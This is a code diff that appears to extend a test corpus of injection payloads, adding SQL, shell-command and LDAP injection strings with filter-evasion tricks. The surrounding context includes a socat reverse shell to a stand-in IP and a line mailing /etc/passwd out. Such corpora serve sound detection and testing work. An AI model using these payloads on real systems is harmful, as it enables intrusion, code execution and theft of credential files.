@@ -94,6 +94,8 @@ ATTACKS: dict[str, tuple[str, ...]] = {
         "' || (select case when (1=1) then to_char(1/0) else '' end from dual)||'", "1'; call sleep(5)--",
         "1' and exists(select * from users) and '1'='1", "1' and length(database())=8--+", "1) or sleep(5)#",
         "1\" and sleep(5)#", "-1 or 17-7=10", "\" onload or \"a\"=\"a", "1'=\"1",
+        "7/*x*/or/*y*/8=8", "7 or /**/ true", "7) or/**/(8", "7'/**/or/**/'8", "3e0or(1)", "5or('a')",
+        "1;copy a from program 'id'", "price desc,sleep(3)", "id` union select 1", "id` or 1=1",
     ),
     "xss": (
         "<script>alert(1)</script>", "<ScRiPt src=//x>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
@@ -271,6 +273,14 @@ ATTACKS: dict[str, tuple[str, ...]] = {
         ";nslookup $(whoami).e.x", ";dig e.x", ";host e.x", "x.png; id", "file.txt|id", "test`id`", "test$(id)",
         "; exec sh", ";socat tcp:1.2.3.4:5 exec:sh", ";telnet 1.2.3.4 80", ";mail x@y.z < /etc/passwd",
         ";systeminfo", "&whoami",
+        "w\\ho\\am\\i", "w'h'o'am'i -x", "/bin/l's' /tmp", "x${IFS}y", "ping${IFS}-c3${IFS}10.0.0.9", "cat$IFS/srv/a",
+        ";${PATH:0:1}bin${PATH:0:1}ls", "${HOME:0:1}tmp", "/etc/sha[d]ow", "/etc/[m]otd", "/b[i]n/ls", "/etc/gr?up",
+        "/etc/*asswd", "n{e,x}tstat", "{c,x}at", "c{url,x} a", "!-2!-1", ";mytool -x", ";quota -u root",
+        "|frobnicate --all", "; while true; do id; done", "; [ -f /a ] && id", "; $SHELL -c id", "; ${SHELL} -i",
+        "x' ; date ; '", "x'&id&'", "x' | top | '", "hello; whoami", "my notes | whoami", "dir c:\\", "type c:\\x.txt",
+        "&&+dir+c:\\", "time sh -c 'id'", "nohup bash -c 'id'", "; fold passwd", "|column shadow", "echo di | rev | sh",
+        "x | base64 --decode | bash", "$[7*3]", "${a##b}", "if/i x==y echo z", "<?php system('id')", "{php}exec('id')",
+        "<%= `id` %>", "#{`id`}", "${phpinfo()}", "x).getRuntime().exec('id')", ";c${x}at /etc/motd",
     ),
     "traversal": (
         "../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
@@ -311,7 +321,8 @@ ATTACKS: dict[str, tuple[str, ...]] = {
         "admin*)((|userpassword=*)", "*)(|(objectclass=*)", "x)(|(cn=*", ")(cn=*", "admin)(!(&(1=0", "*(|(mail=*))",
         "*(|(objectclass=*))", "(|(uid=*)(mail=*))", "x*)(|(a=b", ")(|(password=*)", "a\\29\\28uid=\\2a",
         "admin)(|(password=*)", "*)(|(cn=*", ")(cn=))\\x00", "x)(|(objectclass=*))", ")(|(uid=*))", "user)(!(uid=x)",
-        "*)(memberOf=*", "admin))(|(1=1", "*)",
+        "*)(memberOf=*", "admin))(|(1=1", "*))",
+        "ann) ( & ", "agent/1.0 (x) bob)(|(uid=*))", "some text, x)(&(mail=a", "ann)\x00",
     ),
     "header": (
         "x%0d%0aSet-Cookie:a=b", "x\r\nLocation: http://evil", "x\r\n\r\n<html>", "x%0aSet-Cookie:%20a=1",
@@ -319,4 +330,4 @@ ATTACKS: dict[str, tuple[str, ...]] = {
         "foo\r\nBcc: a@b.c",
     ),
 }  # fmt: skip
-COUNTS = {"sqli": 283, "xss": 264, "cmdi": 246, "traversal": 129, "ldap": 27, "header": 7}
+COUNTS = {"sqli": 293, "xss": 264, "cmdi": 294, "traversal": 129, "ldap": 31, "header": 7}
